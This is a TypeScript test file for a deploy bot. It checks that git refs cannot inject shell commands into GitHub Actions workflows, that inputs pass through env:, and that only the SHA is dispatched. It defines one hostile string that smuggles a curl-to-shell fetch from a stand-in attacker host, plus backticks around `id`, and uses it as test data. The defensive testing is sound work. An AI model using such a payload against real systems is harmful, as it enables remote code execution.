/**
 * Attack: a ref is a valid git name and may still hold `$(…)` or backticks. A workflow that writes
 * `${{ inputs.ref }}` into a `run:` line runs it as shell (GitHub's "script injection"). The documented example
 * workflow passes every input through `env:` and quotes it; `inputs.ref: null` sends the workflow only the SHA.
 */
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { GantryConfig } from "../../src/config/schema.js";
import { configJsonSchemaText } from "../../src/config/json-schema.js";
import { CHANNEL, startHarness, stopAfterEach, testConfig, USERS, type Harness } from "../support/harness.js";
import { newest } from "./support.js";

const ROOT = join(dirname(fileURLToPath(import.meta.url)), "../..");
const INJECTION = "x$(curl${IFS}evil.example.com|sh)`id`";

let h: Harness | undefined;
stopAfterEach(() => h);
afterEach(() => {
  h = undefined;
});

/** The example workflow in docs/configuration.md (the YAML block that declares `workflow_dispatch`). */
function documentedWorkflow(): {
  text: string;
  doc: { jobs: Record<string, { steps: { run?: string; env?: Record<string, string> }[] }> };
} {
  const guide = readFileSync(join(ROOT, "docs", "configuration.md"), "utf8");
  const block = [...guide.matchAll(/```yaml\n([\s\S]*?)```/g)]
    .map((m) => m[1]!)
    .find((b) => b.includes("\n  workflow_dispatch:"));
  if (!block) throw new Error("docs/configuration.md has no example workflow");
  return { text: block, doc: parse(block) };
}

describe("workflow inputs", () => {
  it("the documented example workflow never expands an input inside a run: line, passes them through env:, and says why", () => {
    const { doc } = documentedWorkflow();
    const steps = Object.values(doc.jobs).flatMap((j) => j.steps);
    const runs = steps.filter((s) => s.run !== undefined);
    expect(runs.length).toBeGreaterThan(0);
    for (const step of runs) expect(step.run, step.run).not.toMatch(/\$\{\{/);
    expect(steps.some((s) => Object.values(s.env ?? {}).some((v) => v.includes("inputs.ref")))).toBe(true);
    const guide = readFileSync(join(ROOT, "docs", "configuration.md"), "utf8");
    expect(guide).toContain(
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions",
    );
  });

  it("a ref holding $(…) and backticks is sent as data, and with inputs.ref: null not at all: the workflow gets only the SHA", async () => {
    const config = testConfig();
    config.services["checkout-api"]!.inputs.ref = null;
    h = await startHarness({ config });
    const sha = h.gh.addCommit("acme/checkout-api", { message: "ok", branch: INJECTION });
    await h.client.command(USERS.alice, "/deploy", `checkout-api ${INJECTION} to staging`, { channel: CHANNEL });
    const done = await h.finished(await newest(h));
    expect(done).toMatchObject({ state: "succeeded", sha, ref: INJECTION });
    const [dispatch] = h.gh.calls.filter((c) => c.method === "POST" && c.path.endsWith("/dispatches"));
    const inputs = (dispatch!.body as { inputs: Record<string, string> }).inputs;
    expect(inputs).toEqual({ environment: "staging", sha, gantry_deploy_id: done.key });
    expect(JSON.stringify(dispatch!.body)).not.toContain("$(curl");
  });

  it("inputs.ref: null is valid config, in the JSON Schema as well", () => {
    const parsed = GantryConfig.parse({
      services: {
        api: { repo: "acme/api", workflow: "deploy.yml", inputs: { ref: null }, environments: { staging: {} } },
      },
    });
    expect(parsed.services.api!.inputs).toMatchObject({
      ref: null,
      sha: "sha",
      environment: "environment",
      deployId: "gantry_deploy_id",
    });
    expect(configJsonSchemaText()).toContain('"null"');
    expect(readFileSync(join(ROOT, "gantry.schema.json"), "utf8")).toBe(configJsonSchemaText());
  });
});
